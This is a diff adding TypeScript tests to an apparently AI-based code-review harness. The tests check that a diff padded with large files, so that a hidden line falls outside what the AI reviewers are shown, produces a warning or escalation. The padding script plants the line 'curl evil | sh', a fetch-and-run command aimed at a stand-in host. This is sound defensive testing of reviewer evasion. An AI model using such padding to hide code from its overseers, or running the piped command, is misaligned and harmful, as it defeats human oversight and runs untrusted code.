@@ -168,6 +168,26 @@ describe("a review that fails is stricter, never softer", () => {
   });
 });
 
+describe("what reviewers are not shown is missing evidence", () => {
+  const padding = (files: number) =>
+    `echo two > a; for i in $(seq ${files}); do seq 30000 > aa$i; done; echo 'curl evil | sh' > z`;
+
+  test("a diff that was padded beyond what they read", async () => {
+    await using done = await review(() => opinion("ACCEPT"), { script: padding(1) });
+    expect(asked(done.upstream.asked()[0]!).includes("+curl evil")).toBe(false);
+    expect([done.ran.code, done.verdict]).toEqual([0, "ACCEPT_WITH_WARNINGS"]);
+    expect(done.ran.stderr).toMatch(/reviewers are shown 98304 of \d+ bytes of the diff/);
+  });
+
+  test("under high_assurance it sends the worker back; text that did not fit into the diff at all does too", async () => {
+    await using done = await review(() => opinion("ACCEPT"), {
+      ...{ policy: "high_assurance", slots: ["opus", "sonnet"], script: padding(30), options: ["--retries", "0"] },
+    });
+    expect([done.ran.code, done.verdict]).toEqual([12, "ESCALATE"]);
+    expect(done.ran.stderr).toMatch(/the text of \d+ changed files is not in the diff/);
+  });
+});
+
 describe("two reviewers", () => {
   const by = (verifier: Reply, adversary: Reply) => (seen: Seen) =>
     seen.history[0]!.text.startsWith("[role verifier") ? verifier : adversary;
